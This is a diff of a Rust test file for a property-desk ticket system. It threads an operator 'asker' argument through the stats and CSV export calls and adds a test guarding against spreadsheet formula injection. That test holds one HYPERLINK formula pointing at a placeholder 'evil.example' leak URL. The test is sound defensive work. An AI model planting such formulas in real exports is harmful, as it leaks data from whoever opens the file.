@@ -8,6 +8,7 @@ use propdesk::domain::period::Period;
 use propdesk::domain::{Category, Status};
 use propdesk::i18n::{Locale, Text};
 use propdesk::services::export::{HEADER, tickets_csv};
+use propdesk::services::people::Asker;
 use propdesk::services::stats::{Figures, figures, figures_at};
 use propdesk::store::testdb::{TestDb, fresh_database};
 
@@ -163,7 +164,7 @@ impl Community {
     async fn figures_at(&self, period: Period, today: NaiveDate, now: DateTime<Utc>) -> Figures {
         let (from, to) = period.utc_range(today, Shanghai);
         let mut conn = self.db.pool.acquire().await.unwrap();
-        figures_at(&mut conn, from, to, now).await.unwrap()
+        figures_at(&mut conn, Asker::Operator, from, to, now).await.unwrap().unwrap()
     }
 }
 
@@ -441,7 +442,7 @@ async fn a_period_without_tickets_has_no_figures_rather_than_zeros() {
     let c = community().await;
     let (from, to) = Period::ThisWeek.utc_range(november_27(), Shanghai);
     let mut conn = c.db.pool.acquire().await.unwrap();
-    let f = figures(&mut conn, from, to).await.unwrap();
+    let f = figures(&mut conn, Asker::Operator, from, to).await.unwrap().unwrap();
     assert_eq!(f.overall.tickets, 0);
     assert_eq!((f.overall.onsite_p50, f.overall.rating_avg), (None, None));
     assert!(f.by_staff.is_empty() && f.by_building.is_empty());
@@ -470,7 +471,7 @@ async fn the_export_has_a_header_and_one_row_per_ticket_in_local_time() {
     let (_, to) = Period::ThisMonth.utc_range(recent.with_timezone(&Shanghai).date_naive(), Shanghai);
     let mut out = Vec::new();
     let mut conn = c.db.pool.acquire().await.unwrap();
-    let written = tickets_csv(&mut conn, from, to, Shanghai, &mut out).await.unwrap();
+    let written = tickets_csv(&mut conn, Asker::Operator, from, to, Shanghai, &mut out).await.unwrap().unwrap();
 
     assert_eq!(written, 9);
     let rows = parse_csv(&out);
@@ -519,8 +520,22 @@ async fn an_empty_export_is_just_the_header() {
     let (from, to) = Period::ThisWeek.utc_range(november_27(), Shanghai);
     let mut out = Vec::new();
     let mut conn = c.db.pool.acquire().await.unwrap();
-    assert_eq!(tickets_csv(&mut conn, from, to, Shanghai, &mut out).await.unwrap(), 0);
+    assert_eq!(tickets_csv(&mut conn, Asker::Operator, from, to, Shanghai, &mut out).await.unwrap().unwrap(), 0);
     assert_eq!(parse_csv(&out), vec![HEADER.map(str::to_owned).to_vec()]);
+}
+
+#[tokio::test]
+async fn a_formula_an_owner_typed_reaches_the_export_as_text() {
+    let c = community().await;
+    let link = r#"=HYPERLINK("http://evil.example/?leak","点击查看")"#;
+    c.add(Ticket { common_area: Some(link), ..filed(shanghai(2026, 10, 3, 10, 0)) }).await;
+    let (from, to) = Period::LastMonth.utc_range(november_27(), Shanghai);
+    let mut out = Vec::new();
+    let mut conn = c.db.pool.acquire().await.unwrap();
+    assert_eq!(tickets_csv(&mut conn, Asker::Operator, from, to, Shanghai, &mut out).await.unwrap().unwrap(), 1);
+    let rows = parse_csv(&out);
+    let column = HEADER.iter().position(|h| *h == "common_area").unwrap();
+    assert_eq!(rows[1][column], format!("'{link}"), "a leading quote keeps it text in Excel");
 }
 
 fn propdesk(db: &TestDb) -> std::process::Command {
@@ -615,7 +630,7 @@ async fn ratings_fall_in_the_month_their_ticket_closed_in_shanghai() {
     // Closed on the last minute before the six months began: left out.
     c.add(closed_after(shanghai(2026, 5, 31, 20, 0), shanghai(2026, 5, 31, 23, 59), 5)).await;
     let mut conn = c.db.pool.acquire().await.unwrap();
-    let s = satisfaction(&mut conn, day(2026, 11, 27), Shanghai, 90).await.unwrap();
+    let s = satisfaction(&mut conn, Asker::Operator, day(2026, 11, 27), Shanghai, 90).await.unwrap().unwrap();
     let months: Vec<(NaiveDate, Ratings)> = s.months.clone();
     assert_eq!(months.len(), 6);
     assert_eq!(months[0].0, day(2026, 6, 1));
